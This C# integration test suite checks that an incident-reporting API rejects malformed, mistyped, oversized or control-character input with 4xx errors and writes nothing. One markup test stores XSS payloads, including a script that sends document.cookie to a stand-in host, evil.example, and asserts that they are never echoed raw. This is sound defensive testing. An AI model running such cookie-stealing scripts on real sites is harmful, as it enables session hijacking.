using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using HotlineSystem.Incidents.Features;
using HotlineSystem.IntegrationTests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace HotlineSystem.IntegrationTests;

/// <summary>
/// Every class of bad input, through the real HTTP pipeline on Kestrel: a 4xx problem with a
/// stable code naming the field, never a 500, and nothing written.
/// </summary>
public sealed class BadInputTests(KestrelIncidentsAppFixture fixture) : IClassFixture<KestrelIncidentsAppFixture>
{
    private const string Incidents = "/api/incidents";
    private readonly IncidentsApp _app = fixture.App;

    [Theory]
    [InlineData("{\"requestId\": ")]
    [InlineData("{ requestId: \"4a7d3b1e-0000-0000-0000-000000000000\" }")]
    [InlineData("{\"title\": \"unterminated}")]
    [InlineData("{\"title\": \"a\",}")]
    [InlineData("not json at all")]
    public async Task Malformed_json_gets_400_malformed_json(string body)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, body));

        await response.AssertFieldErrorAsync(field: null, "malformed-json");
    }

    [Theory]
    [InlineData("severity", "3")]
    [InlineData("inventoryCoverDays", "\"many\"")]
    [InlineData("inventoryCoverDays", "12.5")]
    [InlineData("quantityTonnes", "\"lots\"")]
    [InlineData("requestId", "\"not-a-guid\"")]
    [InlineData("minerals", "\"Nd\"")]
    [InlineData("title", "42")]
    [InlineData("hsCodes", "{\"code\": \"2805.30\"}")]
    public async Task A_value_of_the_wrong_type_gets_400_invalid_value_at_that_field(string field, string json)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(field, json)));

        await response.AssertFieldErrorAsync(field, "invalid-value");
    }

    [Theory]
    [InlineData("severity", "\"Sev9\"")]
    [InlineData("severity", "\"Critical\"")]
    [InlineData("severity", "\"1\"")]
    [InlineData("severity", "\"Sev1,Sev2\"")]
    [InlineData("severity", "\"Sev1, Sev2\"")]
    [InlineData("severity", "\"\"")]
    public async Task An_unknown_enum_value_gets_400_invalid_value_at_that_field(string field, string json)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(field, json)));

        await response.AssertFieldErrorAsync(field, "invalid-value");
    }

    [Fact]
    public async Task An_unknown_visibility_on_a_comment_gets_400_invalid_value()
    {
        var incident = await FiledIncidentAsync();

        var response = await FilesNothing(() => PostRawAsync($"{Incidents}/{incident.Id}/comments", """{"text": "hello", "visibility": "Secret"}"""));

        await response.AssertFieldErrorAsync("visibility", "invalid-value");
    }

    [Theory]
    [InlineData("colour", "\"red\"")]
    [InlineData("isAdmin", "true")]
    [InlineData("reportingParty", "\"CN\"")]
    public async Task An_unknown_json_property_gets_400_naming_it(string property, string json)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(property, json)));

        await response.AssertFieldErrorAsync(property, "unknown-field");
    }

    [Theory]
    [InlineData("minerals", "[\"Xx\"]", "minerals[0]", "unknown-mineral")]
    [InlineData("minerals", "[\"Nd\", \"nd\"]", "minerals[1]", "unknown-mineral")]
    [InlineData("minerals", "[\"Fe\"]", "minerals[0]", "unknown-mineral")]
    [InlineData("hsCodes", "[\"9999.99\"]", "hsCodes[0]", "unknown-hs-code")]
    [InlineData("hsCodes", "[\"8505.11\", \"2603.00\"]", "hsCodes[1]", "unknown-hs-code")]
    [InlineData("hsCodes", "[\"2805.3\"]", "hsCodes[0]", "invalid-hs-code")]
    [InlineData("hsCodes", "[\"abc\"]", "hsCodes[0]", "invalid-hs-code")]
    [InlineData("hsCodes", "[\"2805.30.10\"]", "hsCodes[0]", "invalid-hs-code")]
    public async Task An_unknown_mineral_or_hs_code_gets_400_naming_the_item(string property, string json, string field, string code)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(property, json)));

        await response.AssertFieldErrorAsync(field, code);
    }

    [Theory]
    [InlineData("minerals", "[\"Nd\", \"Nd\"]")]
    [InlineData("hsCodes", "[\"8505.11\", \"8505.11\"]")]
    [InlineData("sectors", "[\"defence\", \"defence\"]")]
    public async Task A_list_naming_an_item_twice_gets_400_invalid_list(string property, string json)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(property, json)));

        await response.AssertFieldErrorAsync(property, "invalid-list");
    }

    [Theory]
    [InlineData("minerals", "[\"Dy\", null]", "minerals[1]", "null-element")]
    [InlineData("hsCodes", "[null]", "hsCodes[0]", "null-element")]
    [InlineData("sectors", "[null]", "sectors[0]", "null-element")]
    public async Task A_null_item_in_a_list_gets_400_naming_the_item(string property, string json, string field, string code)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(property, json)));

        await response.AssertFieldErrorAsync(field, code);
    }

    [Theory]
    [InlineData("title", "", "required")]
    [InlineData("title", "   ", "required")]
    [InlineData("title", "x201", "too-long")]
    [InlineData("description", "", "required")]
    [InlineData("description", "x10001", "too-long")]
    [InlineData("counterpartAgency", "x201", "too-long")]
    public async Task An_empty_or_over_long_text_gets_400_naming_the_field(string field, string text, string code)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(field, JsonSerializer.Serialize(Text(text)))));

        await response.AssertFieldErrorAsync(field, code);
    }

    [Theory]
    [InlineData("", "required")]
    [InlineData(" \n ", "required")]
    [InlineData("x4001", "too-long")]
    public async Task An_empty_or_over_long_comment_gets_400_naming_the_text(string text, string code)
    {
        var incident = await FiledIncidentAsync();

        var response = await FilesNothing(() =>
            _app.KrOfficerClient().PostAsJsonAsync($"{Incidents}/{incident.Id}/comments", new { text = Text(text), visibility = "Shared" }));

        await response.AssertFieldErrorAsync("text", code);
    }

    [Fact]
    public async Task Texts_at_their_limits_are_accepted()
    {
        // The other side of the limits above: a limit that refused everything would pass them too.
        var incident = await FiledIncidentAsync(IncidentWith("title", JsonSerializer.Serialize(Text("x200")), ("description", JsonSerializer.Serialize(Text("x10000")))));

        var comment = await _app.KrOfficerClient().PostAsJsonAsync($"{Incidents}/{incident.Id}/comments", new { text = Text("x4000"), visibility = "Shared" });

        Assert.Equal(HttpStatusCode.Created, comment.StatusCode);
        Assert.Equal(200, incident.Title.Length);
    }

    [Theory]
    [InlineData("title", "Customs hold\nat Tianjin")]
    [InlineData("title", "Customs hold\u0007")]
    [InlineData("description", "Held\u0000 shipment")]
    [InlineData("title", "Export licence \u202Edenied\u202C")]
    [InlineData("description", "Held at \u2066Tianjin\u2069")]
    public async Task Control_characters_in_a_text_get_400_invalid_characters(string field, string text)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(field, JsonSerializer.Serialize(text))));

        await response.AssertFieldErrorAsync(field, "invalid-characters");
    }

    [Theory]
    [InlineData("severity", "required")]
    [InlineData("requestId", "required")]
    [InlineData("minerals", "required")]
    [InlineData("title", "required")]
    [InlineData("channel", "required")]
    [InlineData("type", "required")]
    public async Task A_missing_required_field_gets_400_required_at_that_field(string field, string code)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWithout(field)));

        await response.AssertFieldErrorAsync(field, code);
    }

    [Theory]
    [InlineData("severity")]
    [InlineData("minerals")]
    [InlineData("title")]
    public async Task An_explicit_null_for_a_required_field_gets_400_required_at_that_field(string field)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith(field, "null")));

        await response.AssertFieldErrorAsync(field, "required");
    }

    [Fact]
    public async Task An_empty_mineral_list_gets_400_required()
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith("minerals", "[]")));

        await response.AssertFieldErrorAsync("minerals", "required");
    }

    [Theory]
    [InlineData("9999-12-31")]
    [InlineData("0001-01-01")]
    public async Task A_day_outside_the_domain_gets_400_out_of_range_at_that_field(string date)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith("startedOn", JsonSerializer.Serialize(date))));

        await response.AssertFieldErrorAsync("startedOn", "out-of-range");
    }

    [Theory]
    [InlineData("2026-02-30")]
    [InlineData("2025-13-01")]
    [InlineData("30/01/2026")]
    [InlineData("yesterday")]
    public async Task An_impossible_date_gets_400_invalid_value_at_that_field(string date)
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith("startedOn", JsonSerializer.Serialize(date))));

        await response.AssertFieldErrorAsync("startedOn", "invalid-value");
    }

    [Theory]
    [InlineData(2)]
    [InlineData(400)]
    public async Task A_start_date_in_the_future_gets_400_date_in_future(int daysAhead)
    {
        var future = DateOnly.FromDateTime(DateTime.UtcNow).AddDays(daysAhead).ToString("yyyy-MM-dd");

        var response = await FilesNothing(() => PostRawAsync(Incidents, IncidentWith("startedOn", JsonSerializer.Serialize(future))));

        await response.AssertFieldErrorAsync("startedOn", "date-in-future");
    }

    [Fact]
    public async Task A_start_date_of_today_is_accepted()
    {
        var today = DateOnly.FromDateTime(DateTime.UtcNow).ToString("yyyy-MM-dd");

        var incident = await FiledIncidentAsync(IncidentWith("startedOn", JsonSerializer.Serialize(today)));

        Assert.Equal(DateOnly.FromDateTime(DateTime.UtcNow), incident.StartedOn);
    }

    [Theory]
    [InlineData("page=0", "page", "too-small")]
    [InlineData("page=-3", "page", "too-small")]
    [InlineData("page=abc", "page", "invalid-value")]
    [InlineData("page=2147483647", "page", "too-large")]
    [InlineData("pageSize=1000", "pageSize", "out-of-range")]
    [InlineData("pageSize=0", "pageSize", "out-of-range")]
    [InlineData("severity=Sev9", "severity", "invalid-value")]
    [InlineData("severity=9", "severity", "invalid-value")]
    [InlineData("status=Finished", "status", "invalid-value")]
    [InlineData("severity=1", "severity", "invalid-value")]
    [InlineData("severity=Sev1,Sev2", "severity", "invalid-value")]
    [InlineData("severity=Sev1%2C%20Sev2", "severity", "invalid-value")]
    [InlineData("status=Reported,Acknowledged", "status", "invalid-value")]
    [InlineData("severity=Sev1&severity=Sev2", "severity", "single-value")]
    [InlineData("channel=KR-CN&channel=KR-CN", "channel", "single-value")]
    [InlineData("from=9999-12-31T23:59:59Z", "from", "out-of-range")]
    [InlineData("to=0001-01-01T00:00:00Z", "to", "out-of-range")]
    [InlineData("hsCode=abc", "hsCode", "invalid-hs-code")]
    [InlineData("hsCode=2805.3", "hsCode", "invalid-hs-code")]
    [InlineData("from=2026-02-30", "from", "invalid-value")]
    [InlineData("from=2026-11-02T00:00:00Z&to=2026-11-01T00:00:00Z", "to", "invalid-period")]
    public async Task A_bad_query_string_on_the_list_gets_400_naming_the_parameter(string query, string field, string code)
    {
        var response = await _app.KrOfficerClient().GetAsync($"{Incidents}?{query}");

        await response.AssertFieldErrorAsync(field, code);
    }

    [Fact]
    public async Task A_body_over_256_KiB_with_a_content_length_gets_413_body_too_large()
    {
        // Well-formed and otherwise valid (whitespace-padded): only the size may refuse it.
        var content = new ByteArrayContent(OversizedValidIncident());
        content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        Assert.NotNull(content.Headers.ContentLength);

        var response = await FilesNothing(() => _app.KrOfficerClient().PostAsync(Incidents, content));

        await response.AssertProblemAsync(HttpStatusCode.RequestEntityTooLarge, "body-too-large");
    }

    [Fact]
    public async Task A_chunked_body_over_256_KiB_gets_413_body_too_large()
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, Incidents) { Content = new ChunkedContent(OversizedValidIncident()) };
        request.Headers.TransferEncodingChunked = true;

        var response = await FilesNothing(() => _app.KrOfficerClient().SendAsync(request));

        Assert.Null(request.Content.Headers.ContentLength);
        await response.AssertProblemAsync(HttpStatusCode.RequestEntityTooLarge, "body-too-large");
    }

    [Fact]
    public async Task A_chunked_body_under_the_limit_is_accepted()
    {
        var body = Encoding.UTF8.GetBytes(IncidentWith("requestId", JsonSerializer.Serialize(Guid.NewGuid())));
        using var request = new HttpRequestMessage(HttpMethod.Post, Incidents) { Content = new ChunkedContent(body) };
        request.Headers.TransferEncodingChunked = true;

        var response = await _app.KrOfficerClient().SendAsync(request);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
    }

    [Theory]
    [InlineData("text/plain")]
    [InlineData("application/xml")]
    [InlineData("application/x-www-form-urlencoded")]
    public async Task A_body_that_is_not_json_by_content_type_gets_415(string mediaType)
    {
        var content = new StringContent(IncidentWith("requestId", JsonSerializer.Serialize(Guid.NewGuid())), Encoding.UTF8, mediaType);

        var response = await FilesNothing(() => _app.KrOfficerClient().PostAsync(Incidents, content));

        await response.AssertProblemAsync(HttpStatusCode.UnsupportedMediaType, "unsupported-media-type");
    }

    [Fact]
    public async Task An_empty_body_gets_400_body_required()
    {
        var response = await FilesNothing(() => PostRawAsync(Incidents, ""));

        await response.AssertFieldErrorAsync("$", "body-required");
    }

    [Fact]
    public async Task Markup_in_texts_is_stored_and_returned_exactly_and_never_raw_in_the_response()
    {
        const string title = "<script>alert(1)</script> hold at <b>Tianjin</b>";
        const string description = "Shipment \"NdFeB\" & <b>bold</b> <img src=x onerror=alert(1)> 'quoted'\n희토류 稀土";
        const string comment = "<script>document.location='https://evil.example/?c='+document.cookie</script>";
        var client = _app.KrOfficerClient();

        var filed = await client.PostAsync(Incidents, JsonBody(IncidentWith("title", JsonSerializer.Serialize(title), ("description", JsonSerializer.Serialize(description)))));
        var filedRaw = await filed.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.Created, filed.StatusCode);
        var id = JsonDocument.Parse(filedRaw).RootElement.GetProperty("id").GetGuid();
        var commented = await client.PostAsJsonAsync($"{Incidents}/{id}/comments", new { text = comment, visibility = "Shared" });
        Assert.Equal(HttpStatusCode.Created, commented.StatusCode);
        var commentRaw = await commented.Content.ReadAsStringAsync();

        var got = await client.GetAsync($"{Incidents}/{id}");
        var gotRaw = await got.Content.ReadAsStringAsync();
        var listRaw = await client.GetStringAsync($"{Incidents}?pageSize=100");

        var details = JsonSerializer.Deserialize<IncidentDetails>(gotRaw, Requests.Json)!;
        Assert.Equal(title, details.Title);
        Assert.Equal(description, details.Description);
        Assert.Equal(comment, Assert.Single(details.Timeline, e => e.Text is not null).Text);

        var stored = await _app.InDatabase(db => db.Incidents.AsNoTracking().Include(i => i.Timeline).SingleAsync(i => i.Id == id));
        Assert.Equal(title, stored.Title);
        Assert.Equal(description, stored.Description);
        Assert.Contains(stored.Timeline, e => e.Text == comment);

        foreach (var raw in new[] { filedRaw, commentRaw, gotRaw, listRaw })
        {
            Assert.DoesNotContain("<script>", raw, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<b>", raw, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<img", raw, StringComparison.OrdinalIgnoreCase);
        }

        // Escaping is for what HTML acts on; Korean and Chinese are written as they are.
        Assert.Contains("희토류 稀土", gotRaw);
    }

    /// <summary>Runs the request and asserts it wrote nothing at all: no incident, no timeline entry, no event.</summary>
    private async Task<HttpResponseMessage> FilesNothing(Func<Task<HttpResponseMessage>> send)
    {
        var before = await fixture.RecordCountsAsync();
        var response = await send();
        Assert.Equal(before, await fixture.RecordCountsAsync());
        return response;
    }

    private Task<HttpResponseMessage> PostRawAsync(string uri, string body) => _app.KrOfficerClient().PostAsync(uri, JsonBody(body));

    private static StringContent JsonBody(string body) => new(body, Encoding.UTF8, "application/json");

    private async Task<IncidentDetails> FiledIncidentAsync(string? body = null)
    {
        var response = await PostRawAsync(Incidents, body ?? IncidentWith("requestId", JsonSerializer.Serialize(Guid.NewGuid())));
        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        return await response.ReadAsync<IncidentDetails>();
    }

    /// <summary>A valid incident (fresh request id) with <paramref name="field"/> set to the raw JSON <paramref name="json"/>.</summary>
    private static string IncidentWith(string field, string json, params (string Field, string Json)[] more)
    {
        var incident = ValidIncident();
        incident[field] = JsonNode.Parse(json);
        foreach (var (f, j) in more)
        {
            incident[f] = JsonNode.Parse(j);
        }

        return incident.ToJsonString();
    }

    private static string IncidentWithout(string field)
    {
        var incident = ValidIncident();
        Assert.True(incident.Remove(field), $"the valid incident has no '{field}'");
        return incident.ToJsonString();
    }

    private static JsonObject ValidIncident()
    {
        var incident = JsonSerializer.SerializeToNode(Requests.Incident(Guid.NewGuid()), Requests.Json)!.AsObject();
        incident["startedOn"] = DateOnly.FromDateTime(DateTime.UtcNow).AddDays(-3).ToString("yyyy-MM-dd");
        return incident;
    }

    /// <summary>A valid incident padded with whitespace to just over 256 KiB.</summary>
    private static byte[] OversizedValidIncident()
    {
        var json = IncidentWith("requestId", JsonSerializer.Serialize(Guid.NewGuid()));
        var padding = new string(' ', 256 * 1024 + 1 - json.Length + 10);
        var body = Encoding.UTF8.GetBytes("{" + padding + json[1..]);
        Assert.True(body.Length > 256 * 1024);
        Assert.True(body.Length < 256 * 1024 + 100);
        return body;
    }

    /// <summary>"x201" → 201 x's; anything else as given.</summary>
    private static string Text(string spec) =>
        spec.Length > 1 && spec[0] == 'x' && int.TryParse(spec[1..], out var n) ? new string('x', n) : spec;

    /// <summary>A JSON body of unknown length, sent with Transfer-Encoding: chunked.</summary>
    private sealed class ChunkedContent : HttpContent
    {
        private readonly byte[] _body;

        public ChunkedContent(byte[] body)
        {
            _body = body;
            Headers.ContentType = new MediaTypeHeaderValue("application/json") { CharSet = "utf-8" };
        }

        protected override async Task SerializeToStreamAsync(Stream stream, TransportContext? context)
        {
            for (var offset = 0; offset < _body.Length; offset += 8192)
            {
                await stream.WriteAsync(_body.AsMemory(offset, Math.Min(8192, _body.Length - offset)));
            }
        }

        protected override bool TryComputeLength(out long length)
        {
            length = -1;
            return false;
        }
    }
}
